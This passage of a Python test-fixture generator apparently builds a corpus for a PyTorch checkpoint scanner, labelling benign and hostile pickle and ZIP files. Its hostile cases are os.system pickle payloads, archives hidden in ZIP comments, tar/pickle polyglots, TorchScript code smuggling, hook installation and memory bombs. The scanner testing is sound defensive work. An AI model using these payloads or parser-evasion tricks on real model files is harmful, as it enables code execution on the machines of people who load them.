    save("benign_empty.pt", {"d": {}, "l": [], "t": (), "od": OrderedDict(), "e": torch.empty(0), "s": set(),
                             "z": torch.zeros(0, 3)}, "empty containers and empty tensors")
    save("benign_unicode_keys.pt", {"ключ": torch.ones(1), "🔥.weight": torch.ones(2), "a\u0000b": 1, "": 2,
                                    "os.system": 3, "__reduce__": "builtins.eval"},
         "unicode / NUL / empty keys and strings that name dangerous globals")
    opt_model = torch.nn.Linear(3, 2)
    opt = torch.optim.Adam(opt_model.parameters())
    opt_model(torch.ones(1, 3)).sum().backward()
    opt.step()
    save("benign_training_ckpt.pth", {"model": opt_model.state_dict(), "optimizer": opt.state_dict(), "epoch": 3,
                                      "lr": 1e-3, "best": float("inf")}, "training checkpoint with Adam state")
    base = torch.arange(24, dtype=torch.float32).reshape(4, 6)
    save("benign_shared_views.pt", {"a": base, "t": base.t(), "s": base[1:, ::2], "again": base, "flat": base.view(-1)},
         "one storage shared by transposed/strided/offset views")
    save("benign_python_values.pt", {"b": b"\x00\xffbytes", "ba": bytearray(b"xy"), "s": {1, 2}, "c": complex(1, -2),
                                     "cnt": Counter("aab"), "size": torch.Size([2, 3]), "dev": torch.device("cpu"),
                                     "dt": torch.float16, "nan": float("nan")},
         "bytes/bytearray/set/complex/Counter/Size/device/dtype values (allowed globals)")
    save("benign_dtypes_v3.pt", {"f8": torch.zeros(3, dtype=torch.float8_e4m3fn), "u16": torch.zeros(2, dtype=torch.uint16),
                                 "bf": torch.ones(2, dtype=torch.bfloat16), "cx": torch.ones(2, dtype=torch.complex64),
                                 "b": torch.tensor([True, False])}, "new dtypes through _rebuild_tensor_v3")
    p = torch.nn.Parameter(torch.ones(2))
    t = torch.ones(3)
    t.note = "python attribute"
    save("benign_param_and_attrs.pt", {"p": p, "t": t}, "Parameter and tensor with Python attributes (_rebuild_from_type_v2)")
    shared = torch.ones(1)
    save("benign_memo_heavy.pt", {"refs": [shared] * 2000, "keys": {f"k{i}": "same-string-value" for i in range(300)}},
         "memo-heavy: one tensor referenced 2000 times, LONG_BINPUT/LONG_BINGET indices > 255")
    save("benign_pickle_alias.pt", {"pickle": torch.ones(1), "torch.load": "eval", "subprocess": ["Popen"]},
         "keys named like gadgets")

    # Hand-made but torch-verified pickles: allowed globals in odd orders, memoised globals.
    f4 = struct.pack("<4f", 1, 2, 3, 4)

    def tens(first):
        od = glob("collections", "OrderedDict") + put(50) if first else get(50)
        v2 = glob("torch._utils", "_rebuild_tensor_v2") + put(51) if first else get(51)
        pid = MARK + uni("storage") + get(52) + uni("0") + uni("cpu") + integer(4) + TUPLE
        return (v2 + MARK + pid + BINPERSID + integer(0) + enc((4,)) + enc((1,)) + NEWFALSE + od + EMPTY_TUPLE
                + REDUCE + TUPLE + REDUCE)
    pkl = (PROTO2 + EMPTY_DICT + put(0) + MARK
           + uni("dtype") + glob("torch", "float16") + uni("cls") + glob("torch", "FloatStorage") + put(52)
           + uni("b") + tens(True) + uni("a") + tens(False) + uni("c") + tens(False) + SETITEMS + STOP)
    data = tensor_zip(pkl, f4)
    torch_loads_weights_only(data)
    add("benign_odd_global_order.pt", data, "safe", None,
        "storage class first as a plain value, rebuild function later, all reused through BINGET",
        "benign (torch-verified)")
    pkl = (PROTO2 + EMPTY_DICT + put(0) + MARK + uni("x") + glob("torch", "Size") + enc(((2, 2),)) + REDUCE
           + uni("y") + glob("collections", "Counter") + EMPTY_TUPLE + REDUCE
           + uni("z") + glob("torch", "device") + enc(("cpu",)) + REDUCE
           + uni("s") + glob("torch", "FloatStorage") + put(52)
           + uni("w") + tens(True) + SETITEMS + STOP)
    data = tensor_zip(pkl, f4, folder="weird folder.name-v1")
    torch_loads_weights_only(data)
    add("benign_odd_folder.pt", data, "safe", None, "top folder with spaces and dots; Size/Counter/device values",
        "benign (torch-verified)")
    data = build_zip([Rec(r.name, r.data) for r in records_of(torch_bytes(base_state_dict(12)))][:-1]
                     + [Rec("archive/notes.txt", b"trained on CIFAR-10\n"),
                        Rec("archive/.data/serialization_id", b"0" * 40)])
    torch_loads_weights_only(data)
    add("benign_extra_text_record.pt", data, "safe", None, "an extra plain-text record (reported, not a pickle)",
        "docs/policy.md Containers", warnings=["extra_record"])
    data = build_zip([Rec(r.name, r.data, method=0 if "/data/" in r.name else 8)
                      for r in records_of(torch_bytes(base_state_dict(11)))])
    torch_loads_weights_only(data)
    add("benign_deflated_records.pt", data, "safe", None,
        "every record but the storages re-zipped with deflate (ratio < 250); every torch mode reads them alike",
        "torch inline_container.cc (miniz)")
    bare = pickle.dumps({"epoch": 7, "names": ["a", "b"], "lr": 0.1, "flags": (True, None)}, protocol=2)
    add("benign_bare_pickle.pkl", bare, "safe", None, "bare protocol-2 pickle of plain values", "benign")
    add("benign_proto0_values.pkl", pickle.dumps({"a": [1, 2.5, "x"], "b": None}, protocol=0), "safe", None,
        "protocol 0 text pickle of plain values (torch would refuse the opcodes: warnings only)", "benign",
        warnings=["torch_refuses_opcode"])
    add("benign_stack_left_at_stop.pkl", PROTO2 + integer(1) + integer(2) + STOP, "safe", None,
        "a value left under the result at STOP (CPython ignores it)", "benign", warnings=["stack_not_empty_at_stop"])

def gen_zip_tail():
    """Issue 9 §1 / issue 16 §1, §4: which end record, which record name, which small-record text.
    Each claim about what torch or zipfile does with these bytes was checked with torch 2.15
    (venv), torch 1.13 (/usr/bin/python3) and CPython 3.11's zipfile when the case was written;
    the outcome is quoted in the case's comment."""
    B = "pickle_global_blocked"
    base = records_of(torch_bytes(base_state_dict(21)))
    orig = data_pkl(base)
    evil = inject(orig, call("os", "system", CMD))
    plain = [Rec(r.name, r.data) for r in base]

    def hidden_in_comment(outer_recs, inner_recs, tail=b"\x00"):
        """`outer` whose EOCD comment holds a whole second archive (absolute offsets) + `tail`."""
        outer_len = len(build_zip(outer_recs))
        inner = build_zip(inner_recs, shift=outer_len)
        return build_zip(outer_recs, comment=inner + tail)

    # A second archive in the comment, its own comment ending one byte before the end of the
    # file: miniz (torch) and zipfile take the LAST signature, libzip the one whose comment
    # reaches the end. Checked: zipfile reads the inner data.pkl (the payload); torch 2.15
    # weights_only=False reaches os.system (stopped by a find_class hook); torch 1.13 ran the
    # inner pickle (the `echo`); the _weights file loads the inner weights in both versions
    # (weights_only=True on 2.15), while libzip opens the outer archive.
    add("eocd_hidden_archive_payload.pt", hidden_in_comment(plain, [Rec(r.name, evil if r.name.endswith("/data.pkl") else r.data)
                                                                   for r in base]),
        "unsafe", B, "complete second archive (malicious data.pkl) inside the EOCD comment",
        "issue 9 §1; miniz mz_zip_reader_locate_header_sig, zipfile._EndRecData")
    other = records_of(torch_bytes(base_state_dict(22)))
    add("eocd_hidden_archive_weights.pt", hidden_in_comment(plain, [Rec(r.name, r.data) for r in other]),
        "malformed", "zip_eocd_in_comment",
        "second archive with other weights inside the EOCD comment: torch 2.15 weights_only=True loads the hidden "
        "values (checked), libzip the outer ones", "issue 9 §1")
    # The inner end record ends exactly at the end of the file: now both end records reach it;
    # the last one is chosen and the outer one is a second candidate (libzip may weigh it best).
    add("eocd_hidden_archive_exact_end.pt", hidden_in_comment(plain, [Rec(r.name, r.data) for r in other], tail=b""),
        "malformed", "zip_ambiguous_eocd", "second archive in the comment whose end record ends the file", "issue 9 §1",
        alt=[{"verdict": "malformed", "rule": "zip_gap"}])
    # Checked: torch 1.13 and 2.15 load it (miniz skips a signature without 22 bytes after it);
    # zipfile raises BadZipFile.
    add("eocd_signature_in_comment.pt", build_zip(plain, comment=b"note PK\x05\x06 end"),
        "malformed", "zip_eocd_in_comment",
        "EOCD signature with fewer than 22 bytes after it inside the comment: zipfile takes it and fails, miniz skips it",
        "zipfile._EndRecData; miniz locate_header_sig")
    fake_eocd = b"PK\x05\x06" + u16(0) * 4 + u32(0) + u32(0) + u16(0)
    add("eocd_candidate_in_record.pt", build_zip(plain[:-1] + [Rec("archive/notes.txt", b"notes " + fake_eocd)] + plain[-1:]),
        "malformed", "zip_ambiguous_eocd", "a complete empty end record inside a record in the last 64 KiB",
        "libzip _zip_find_central_dir weighs every candidate")
    z = bytearray(build_zip(plain))
    z[-22 - 20 + 16:-22 - 20 + 20] = u32(0)  # locator: total number of disks 0
    # Checked: torch 1.13 and 2.15 fail ("unsupported multidisk archive"), zipfile opens it.
    add("zip64_locator_zero_disks.pt", bytes(z), "malformed", "zip_bad_eocd",
        "zip64 locator says 0 disks: miniz refuses (torch cannot load it), zipfile accepts", "miniz read_central_dir")
    z = build_zip(plain)
    z64 = z[-22 - 20 - 56:-22 - 20]
    ext = z64  # extensible data: a copy of the record, where zipfile (which assumes none) reads it
    rec = b"PK\x06\x06" + u64(44 + len(ext)) + z64[12:]
    loc = z[-22 - 20:-22]
    # Checked: torch 1.13 and 2.15 load it; zipfile places the directory 56 bytes too late and
    # raises BadZipFile. The same layout with other values in `ext` gives zipfile another directory.
    add("zip64_extensible_data.pt", z[:-22 - 20 - 56] + rec + ext + loc + z[-22:], "malformed", "zip_bad_eocd",
        "zip64 end record with extensible data: zipfile reads 56 bytes before the locator, miniz where it points",
        "zipfile._EndRecData64 ('Assume no zip64 extensible data')")
    z = bytearray(build_zip(plain))
    st = z.find(b"PK\x07\x08")
    z[st + 8:st + 12] = u32(struct.unpack_from("<I", z, st + 8)[0] + 1)
    add("descriptor_size_lie.pt", bytes(z), "malformed", "zip_local_header",
        "data descriptor whose compressed size disagrees with the directory (streaming readers use it)", "APPNOTE 4.3.9")

    # Record names as miniz finds them (ASCII case-insensitive; torch 1.13 and 2.15 load every
    # benign case below, checked).
    up = {"data.pkl": "DATA.PKL", "version": "VERSION", "byteorder": "BYTEORDER", ".data/serialization_id": ".DATA/SERIALIZATION_ID"}
    upper = [Rec("archive/" + up.get(r.name.split("/", 1)[1], r.name.split("/", 1)[1]), r.data) for r in base]
    data = build_zip(upper)
    torch_loads_weights_only(data)
    add("case_upper_records.pt", data, "safe", None, "DATA.PKL, VERSION, BYTEORDER: torch finds them case-insensitively",
        "issue 16 §1 (miniz mz_zip_reader_locate_file, flags 0)")
    add("case_upper_data_pkl_evil.pt", build_zip([Rec("archive/" + up.get(r.name.split("/", 1)[1], r.name.split("/", 1)[1]),
                                                       evil if r.name.endswith("/data.pkl") else r.data) for r in base]),
        "unsafe", B, "the only data.pkl is spelled DATA.PKL and holds the payload", "issue 16 §1")
    consts = PROTO2 + EMPTY_TUPLE + STOP
    cnt = PROTO2 + glob("collections", "Counter") + EMPTY_TUPLE + REDUCE + STOP
    ts = [Rec("archive/data.pkl", cnt), Rec("archive/CONSTANTS.PKL", consts),
          Rec("archive/code/__torch__/collections.py", b"class Counter:\n  def __setstate__(self, s):\n    pass\n"),
          Rec("archive/version", b"3\n")]
    add("case_constants_pkl_upper.pt", build_zip(ts), "unsafe", "torchscript_archive",
        "CONSTANTS.PKL + code/: torch.jit.load takes it for TorchScript and resolves data.pkl's Counter to code/",
        "issue 16 §1")
    add("code_record_without_constants.pt", build_zip(plain[:-1] + [Rec("archive/code/__torch__/m.py", b"def f(x):\n  return x\n")]
                                                      + plain[-1:]),
        "unsafe", "torchscript_code", "a code/ record in a plain checkpoint (some reader compiles it)", "issue 16 §1")
    add("code_record_upper.pt", build_zip(plain[:-1] + [Rec("archive/CODE/__torch__/m.py", b"def f(x):\n  return x\n")] + plain[-1:]),
        "unsafe", "torchscript_code", "a CODE/ record: code/ to miniz", "issue 16 §1")

    # Top folder with a colon (torch.save("s:42.pth") writes it; torch loads it) and a bare drive.
    data = build_zip([Rec("s:42/" + r.name.split("/", 1)[1], r.data) for r in base])
    torch_loads_weights_only(data)
    add("root_with_colon.pt", data, "safe", None, "top folder 's:42' (file saved as s:42.pth)", "issue 9 §6")
    add("root_drive_absolute.pt", build_zip([Rec("C:/" + r.name.split("/", 1)[1], r.data) for r in base]),
        "malformed", "zip_bad_name", "top folder 'C:' (drive-absolute on Windows: an extractor writes to C:\\)",
        "docs/policy.md Containers")

    # Small records whose reading depends on the torch version (issue 16 §4). torch 1.13 and
    # 2.15: version " 3", "3abc", "+3", "-18446744073709551615" (stoull wraps it to 1) load;
    # "99999999999999999999999" fails (stoull out_of_range). torch 2.15: .storage_alignment
    # "6_4" loads, "64x" raises ValueError; torch 1.13 ignores the record.
    for tag, v in (("leading_space", b" 3"), ("trailing_text", b"3abc"), ("negative_wraps_to_1", b"-18446744073709551615")):
        data = build_zip(replace(base, "/version", v))
        torch_loads_weights_only(data)
        add(f"version_{tag}.pt", data, "safe", None, f"version record {v!r}: torch's std::stoull reads a version in 1..10",
            "issue 16 §4; inline_container.cc")
    add("version_out_of_range.pt", build_zip(replace(base, "/version", b"99999999999999999999999")), "malformed",
        "bad_version_record", "version beyond 2^64: std::stoull throws out_of_range", "issue 16 §4")
    data = build_zip(replace(base, "/.storage_alignment", b"6_4"))
    torch_loads_weights_only(data)
    add("storage_alignment_underscore.pt", data, "safe", None, ".storage_alignment '6_4': int() accepts it", "issue 16 §4")
    add("storage_alignment_not_int.pt", build_zip(replace(base, "/.storage_alignment", b"64x")), "malformed",
        "bad_storage_alignment_record", ".storage_alignment '64x': every torch 2.15 load raises ValueError", "issue 16 §4")
    add("byteorder_big_version_dependent.pt", build_zip(replace(base, "/byteorder", b"big")), "safe", None,
        "byteorder 'big': torch 2.15 swaps, torch 1.13 ignores the record (checked: different values)", "issue 16 §4",
        warnings=["byteorder_version_dependent"])


def gen_tar_polyglots():
    """Issue 9 §2: files that are a pickle or legacy stream to one reader and a tar archive (V7:
    a header checksum, no magic) to CPython's tarfile, which torch.load tries first on a path.
    Built by tar_polyglots.py; tests/hostile/check_tar_torch.py confirms with torch 1.13 and 2.x
    that torch.load(path) opens each `tar_*` file below (except the near misses) as tar and asks
    its pickle module to read the member `storages`."""
    import tar_polyglots as tp
    T = "tar_format"
    payload = b"cos\nsystem\n(S'" + CMD.encode() + b"'\ntR."  # protocol 0, ASCII
    src = "issue 9 §2; CPython tarfile.nti/calc_chksums; torch.serialization._legacy_load"

    def bare(name, tech, **kw):
        data = tp.bare_pickle_tar(payload, **kw)
        assert tp.tar_view(data) is not None and "storages" in tp.tar_view(data), name
        add(name, data, "unsafe", T, tech, src)

    bare("tar_v7_bare_pickle.pkl", "bare pickle (BINBYTES) whose first block is a V7 header; member storages = payload")
    bare("tar_v7_signed_checksum.pkl", "V7 header whose checksum is the signed byte sum (Sun/NeXT tars)", signed=True,
         style="negative")
    bare("tar_v7_base256_checksum.pkl", "V7 header whose checksum field is base-256 (first byte 0o200)", style="base256")
    bare("tar_v7_pyint_checksum.pkl", "V7 checksum in Python int() syntax: whitespace, 0o prefix, underscore", style="pyint")
    bare("tar_v7_storages_symlink.pkl", "V7 tar whose storages member is a symlink (torch reads the target)",
         typ=b"2", linkname=b"/dev/null")
    add("tar_empty_zero_block.pt", b"\0" * 1024 + SYSTEM, "unsafe", T,
        "first block all NUL: tarfile opens an empty archive (torch then fails on the missing storages)", src)

    # Near misses: tarfile refuses them, so torch falls back to the pickle they also are.
    for name, kw, tech in (("tar_near_miss_checksum.pkl", {"off_by": 1}, "checksum off by one"),
                           ("tar_near_miss_bad_mode.pkl", {"bad_mode": True}, "valid checksum, mode field not octal")):
        data = tp.bare_pickle_tar(payload, **kw)
        assert tp.tar_view(data) is None, name
        add(name, data, "safe", None, f"not tar: {tech} (tarfile raises; a bare pickle of bytes)", src,
            warnings=["torch_refuses_opcode"])

    def legacy_pickles(numel):
        magic = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
        proto = pickle.dumps(1001, protocol=2)
        head = PROTO2 + EMPTY_DICT + uni("pad")  # sys_info = {"pad": "<header fields>"}
        tail = SETITEM + STOP
        pid = MARK + uni("storage") + glob("torch", "ByteStorage") + uni("0") + uni("cpu") + integer(numel) + NONE + TUPLE
        main = (PROTO2 + EMPTY_DICT + uni("t") + glob("torch._utils", "_rebuild_tensor_v2") + MARK + pid + BINPERSID
                + integer(0) + enc((numel,)) + enc((1,)) + NEWFALSE + glob("collections", "OrderedDict") + EMPTY_TUPLE
                + REDUCE + TUPLE + REDUCE + SETITEM + STOP)
        return magic, proto, head, tail, main, pickle.dumps(["0"], protocol=2)

    for name, kw, tech in (("tar_v7_legacy.pt", {}, "legacy stream (torch-loadable from a buffer) whose first block is a V7 "
                                                    "header; storages member inside the storage bytes"),
                           ("tar_v7_legacy_symlink.pt", {"typ": b"2", "linkname": b"/dev/null"},
                            "legacy stream / V7 tar whose storages member is a symlink")):
        data = tp.legacy_tar(legacy_pickles, payload, **kw)
        assert "storages" in (tp.tar_view(data) or []), name
        torch_loads_weights_only(data)  # from a buffer torch skips tarfile: a genuine legacy file
        add(name, data, "unsafe", T, tech, src)
    data = tp.legacy_tar(legacy_pickles, payload)
    data = data[:148] + b"\0" * 8 + data[156:]  # checksum field 0: no sum matches
    assert tp.tar_view(data) is None
    torch_loads_weights_only(data)
    add("legacy_padded_not_tar.pt", data, "safe", None, "the legacy stream of tar_v7_legacy.pt with its checksum field "
        "zeroed: tarfile refuses it, torch reads it as legacy", src)


def torch_refuses_weights_only(data):
    try:
        torch.load(io.BytesIO(data), weights_only=True)
    except Exception:
        return
    raise AssertionError("torch.load(weights_only=True) accepted a file meant to be refused")


def legacy_stream(main, keys, data):
    """A legacy (0.1.10-1.5) stream around a hand-made main pickle: magic, 1001, sys_info, main,
    the key-list pickle, then the size-prefixed storage bytes."""
    sys_info = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
    return (pickle.dumps(0x1950a86a20f9469cfc6c, protocol=2) + pickle.dumps(1001, protocol=2)
            + pickle.dumps(sys_info, protocol=2) + main + pickle.dumps(keys, protocol=2) + data)


def legacy_tensors(keys):
    """{'t0': tensor over FloatStorage keys[0] (2 floats), ...} with 6-tuple persistent ids."""
    body = PROTO2 + EMPTY_DICT + MARK
    for i, k in enumerate(keys):
        pid = MARK + uni("storage") + glob("torch", "FloatStorage") + enc(k) + uni("cpu") + integer(2) + NONE + TUPLE
        body += (uni("t%d" % i) + glob("torch._utils", "_rebuild_tensor_v2") + MARK + pid + BINPERSID + integer(0)
                 + enc((2,)) + enc((1,)) + NEWFALSE + glob("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE
                 + TUPLE + REDUCE)
    return body + SETITEMS + STOP


def legacy_block(values):
    return struct.pack("<q", len(values)) + struct.pack("<%df" % len(values), *values)


class _FromTypeV2:
    def __init__(self, t, new_type, state):
        self.t, self.new_type, self.state = t, new_type, state

    def __reduce__(self):
        func, args = self.t._reduce_ex_internal(2)
        return (torch._tensor._rebuild_from_type_v2, (func, self.new_type, args, self.state))


def gen_rebuild_semantics():
    """Issues 9 and 16: torch's own semantics for storage keys, tensor states, conj/neg bits,
    copies made by allowed callables, and keys chosen to collide in an unkeyed hash."""
    # Legacy storage keys are dict keys as written: 5 and '5' are two storages.
    data = legacy_stream(legacy_tensors([5, 6]), ["5", 6], legacy_block([1, 2]) + legacy_block([3, 4]))
    torch_refuses_weights_only(data)
    add("legacy_key_list_other_type.pt", data, "malformed", "legacy_bad_storage_list",
        "legacy key list names '5' where the pickle keyed the storage 5 (torch asserts)", "issue 16 §3")
    data = legacy_stream(legacy_tensors([5, "5"]), ["5"], legacy_block([1, 2]))
    add("legacy_int_and_str_key.pt", data, "malformed", "bad_persistent_id",
        "legacy tensors keyed 5 and '5', key list ['5']: torch gives the first uninitialised memory", "issue 16 §3")
    data = legacy_stream(legacy_tensors([5, 6]), [5, 6], legacy_block([1, 2]) + legacy_block([3, 4]))
    torch_loads_weights_only(data)
    add("legacy_int_keys_benign.pt", data, "safe", None, "legacy storages keyed by ints, int key list (torch loads it)",
        "issue 16 §3")
    pkl = (PROTO2 + EMPTY_DICT + MARK + uni("a") + tensor_expr(2, (2,), (1,), key="0") + uni("b")
           + tensor_expr(2, (2,), (1,), key="0").replace(uni("0"), integer(0)) + SETITEMS + STOP)
    add("zip_key_int_and_str.pt", tensor_zip(pkl, struct.pack("<2f", 1, 2)), "malformed", "bad_persistent_id",
        "zip tensors keyed 0 and '0': two storages to torch, one name in pthsafe's output", "issue 16 §3")

    # _rebuild_from_type_v2 states are applied by setattr (torch 2.x).
    g = torch.Generator().manual_seed(5)
    f = torch.randn(4, generator=g)
    data = torch_bytes({"w": _FromTypeV2(f, torch.nn.Parameter, {"data": torch.randn(2, 3, generator=g)})})
    torch_loads_weights_only(data)
    add("state_data_swap.pt", data, "safe", None,
        "Parameter whose saved state replaces its data (torch 2.x loads the [2, 3] tensor; so does pthsafe)", "issue 9 §3")
    data = torch_bytes({"w": _FromTypeV2(f, torch.Tensor, {"real": torch.zeros(4)})})
    torch_loads_weights_only(data)
    add("state_real_overwrites.pt", data, "unsafe", "tensor_state_refused",
        "state sets Tensor.real: torch overwrites the values through the property", "issue 9 §3")
    data = torch_bytes({"w": _FromTypeV2(f, torch.Tensor, {"__deepcopy__": torch._utils._rebuild_tensor_v2})})
    torch_loads_weights_only(data)
    add("state_shadows_dunder.pt", data, "unsafe", "tensor_state_refused",
        "state installs __deepcopy__ on the tensor: copy.deepcopy would call an allowed global", "issue 9 §3")
    data = torch_bytes({"w": _FromTypeV2(torch.arange(3), torch.Tensor, {"requires_grad": True})})
    torch_refuses_weights_only(data)
    add("state_requires_grad_int.pt", data, "malformed", "bad_rebuild_args",
        "state sets requires_grad on an int64 tensor (torch raises)", "issue 9 §3")
    pkl = tensor_pickle(2, (2,), (1,)).replace(
        glob("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + TUPLE,
        glob("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + EMPTY_DICT + uni("conj") + NEWTRUE + SETITEM + TUPLE)
    data = tensor_zip(pkl, struct.pack("<2f", 1, 2))
    torch_refuses_weights_only(data)
    add("conj_on_float.pt", data, "malformed", "bad_rebuild_args",
        "_rebuild_tensor_v2 metadata sets the conj bit of a float32 tensor (torch 2.x asserts)", "issue 16 §4")

    # Copies made by allowed callables are charged before they happen.
    add("bytearray_n_bomb.pkl", PROTO2 + MARK + (glob("builtins", "bytearray") + b"J\x00\x00\x00\x08\x85R") * 10
        + b"l" + STOP, "malformed", "limit_exceeded", "bytearray(2**27) ten times from 200 bytes", "issue 9 §4")
    data = (PROTO2 + MARK + integer(7) * 50000 + TUPLE + put(0) + POP + MARK
            + (glob("torch", "Size") + get(0) + b"\x85R" + POP) * 1000 + b"1" + NONE + STOP)
    add("size_copy_bomb.pkl", data, "malformed", "limit_exceeded",
        "torch.Size(t) of one shared 50,000-item tuple, 1,000 times (400 MB of copies)", "issue 9 §4")

    # Ints chosen so that the unkeyed hash pthsafe used to have put every key in one slot.
    mask64 = (1 << 64) - 1

    def unmix(h):
        h ^= h >> 33
        h = (h * pow(0xc4ceb9fe1a85ec53, -1, 1 << 64)) & mask64
        h ^= h >> 33
        h = (h * pow(0xff51afd7ed558ccd, -1, 1 << 64)) & mask64
        return h ^ (h >> 33)

    keys, k = [], 1
    while len(keys) < 10000:
        x = unmix(unmix(k << 22))
        if x < (1 << 63):
            keys.append(x)
        k += 1
    add("colliding_int_keys.pkl", PROTO2 + EMPTY_DICT + MARK + b"".join(integer(x) + NONE for x in keys) + SETITEMS + STOP,
        "safe", None, "10,000 dict keys colliding in pthsafe's former unkeyed hash (now keyed: linear)", "issue 9 §5")


def gen_tensor_state_semantics():
    """Red team B (findings 1-5): values torch derives from a tensor or mapping that a raw reading
    of the file does not give (quantizer parameters with the neg bit or bool zero points), and
    states that install hooks, shadow mapping methods or differ between torch versions."""
    def rb_tensor(key, numel, storage="FloatStorage", rg=NEWFALSE, hooks=None, metadata=None):
        pid = MARK + uni("storage") + glob("torch", storage) + uni(key) + uni("cpu") + integer(numel) + TUPLE
        hooks = hooks if hooks is not None else glob("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE
        return (glob("torch._utils", "_rebuild_tensor_v2") + MARK + pid + BINPERSID + integer(0) + enc((numel,))
                + enc((1,)) + rg + hooks + (metadata or b"") + TUPLE + REDUCE)

    def zipped(pkl, storages):
        recs = [Rec("archive/data.pkl", pkl), Rec("archive/byteorder", b"little")]
        recs += [Rec(f"archive/data/{k}", v) for k, v in storages]
        recs += [Rec("archive/version", b"3\n"), Rec("archive/.data/serialization_id", b"0" * 40)]
        return build_zip(recs)

    qdata = bytes([10, 20, 30, 40, 50, 60])
    ohooks = glob("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + integer(0) + glob("torch", "Tensor") + SETITEM

    def qtensor(params, rg=NEWFALSE, hooks=None):
        pid = MARK + uni("storage") + glob("torch", "QInt8Storage") + uni("0") + uni("cpu") + integer(6) + TUPLE
        hooks = hooks if hooks is not None else glob("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE
        return (glob("torch._utils", "_rebuild_qtensor") + MARK + pid + BINPERSID + integer(0) + enc((2, 3))
                + enc((3, 1)) + params + rg + hooks + TUPLE + REDUCE)

    def per_channel(scales, zps):
        return MARK + glob("torch", "per_channel_affine") + scales + zps + integer(0) + TUPLE

    neg = EMPTY_DICT + uni("neg") + NEWTRUE + SETITEM
    # Finding 1: torch's quantizer holds scales.to(kDouble) / zero_points.to(kLong), with the neg bit
    # applied and bools cast by truth; pthsafe now reports those values (checked in inspect --json).
    data = zipped(pk(EMPTY_DICT + uni("q") + qtensor(per_channel(rb_tensor("1", 2, metadata=neg),
                                                                    rb_tensor("2", 2, "LongStorage"))) + SETITEM),
                  [("0", qdata), ("1", struct.pack("<2f", 0.25, 0.5)), ("2", struct.pack("<2q", 1, 2))])
    q = torch.load(io.BytesIO(data), weights_only=True)["q"]
    assert q.q_per_channel_scales().tolist() == [-0.25, -0.5]
    add("qtensor_neg_scales.pt", data, "safe", None,
        "per-channel scales with the neg bit: torch's quantizer holds [-0.25, -0.5] (so does pthsafe)", "red team B §1")
    data = zipped(pk(EMPTY_DICT + uni("q") + qtensor(per_channel(rb_tensor("1", 2), rb_tensor("2", 2, "BoolStorage")))
                     + SETITEM), [("0", qdata), ("1", struct.pack("<2f", 0.25, 0.5)), ("2", bytes([2, 255]))])
    q = torch.load(io.BytesIO(data), weights_only=True)["q"]
    assert q.q_per_channel_zero_points().tolist() == [1, 1]
    add("qtensor_bool_zp.pt", data, "safe", None,
        "bool zero points stored as bytes 02 ff: torch's zero_points.to(kLong) gives [1, 1] (so does pthsafe)",
        "red team B §1")
    # Finding 2: _rebuild_qtensor's 7th argument is assigned to tensor._backward_hooks.
    per_tensor = MARK + glob("torch", "per_tensor_affine") + b"G" + struct.pack(">d", 0.5) + integer(0) + TUPLE
    data = zipped(pk(EMPTY_DICT + uni("q") + qtensor(per_tensor, hooks=ohooks) + SETITEM), [("0", qdata)])
    torch_loads_weights_only(data)
    add("qtensor_hooks.pt", data, "unsafe", "tensor_state_refused",
        "_rebuild_qtensor backward_hooks = OrderedDict({0: torch.Tensor}): torch installs the hook", "red team B §2")
    data = zipped(pk(EMPTY_DICT + uni("q") + qtensor(per_tensor, rg=NEWTRUE) + SETITEM), [("0", qdata)])
    torch_refuses_weights_only(data)
    add("qtensor_requires_grad.pt", data, "malformed", "bad_rebuild_args",
        "_rebuild_qtensor with requires_grad=True: torch raises for a qint8 tensor", "red team B §2")
    # Finding 3: Parameter BUILD (Tensor.__setstate__) with (requires_grad, _, hooks).
    f4 = struct.pack("<4f", 1, 2, 3, 4)
    param = glob("torch._utils", "_rebuild_parameter") + MARK + rb_tensor("0", 4) + NEWTRUE + glob(
        "collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + TUPLE + REDUCE
    data = zipped(pk(EMPTY_DICT + uni("w") + param + MARK + NEWTRUE + NONE + ohooks + TUPLE + BUILD + SETITEM),
                  [("0", f4)])
    torch_loads_weights_only(data)
    add("param_build_hooks.pt", data, "unsafe", "tensor_state_refused",
        "Parameter BUILD (True, None, OrderedDict({0: torch.Tensor})): Tensor.__setstate__ installs the hook",
        "red team B §3")
    iparam = glob("torch._utils", "_rebuild_parameter") + MARK + rb_tensor("0", 2, "LongStorage") + NEWFALSE + glob(
        "collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + TUPLE + REDUCE
    data = zipped(pk(EMPTY_DICT + uni("w") + iparam + MARK + NEWTRUE + NONE + NONE + TUPLE + BUILD + SETITEM),
                  [("0", struct.pack("<2q", 1, 2))])
    torch_refuses_weights_only(data)
    add("param_build_requires_grad_int.pt", data, "malformed", "bad_rebuild_args",
        "int64 Parameter BUILD (True, None, None): torch raises on requires_grad for an int dtype", "red team B §3")
    # Finding 4: torch 2.x applies a `data` state to new_type Tensor; torch 1.13 returns func(*args).
    args = (MARK + MARK + uni("storage") + glob("torch", "FloatStorage") + uni("0") + uni("cpu") + integer(4) + TUPLE
            + BINPERSID + integer(0) + enc((4,)) + enc((1,)) + NEWFALSE + glob("collections", "OrderedDict")
            + EMPTY_TUPLE + REDUCE + TUPLE)
    t = (glob("torch._tensor", "_rebuild_from_type_v2") + MARK + glob("torch._utils", "_rebuild_tensor_v2")
         + glob("torch", "Tensor") + args + EMPTY_DICT + uni("data") + rb_tensor("1", 4) + SETITEM + TUPLE + REDUCE)
    data = zipped(pk(EMPTY_DICT + uni("w") + t + SETITEM), [("0", f4), ("1", struct.pack("<4f", 666, 666, 666, 666))])
    assert torch.load(io.BytesIO(data), weights_only=True)["w"].tolist() == [666.0] * 4
    add("from_type_v2_data.pt", data, "safe", None,
        "_rebuild_from_type_v2(torch.Tensor, state {'data': other}): torch 2.x reads other, torch 1.13 the args",
        "red team B §4", warnings=["tensor_state_version_dependent"])
    # Finding 5: OrderedDict BUILD attributes that shadow the mapping's own methods.
    od = glob("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + uni("w") + rb_tensor("0", 4) + SETITEM
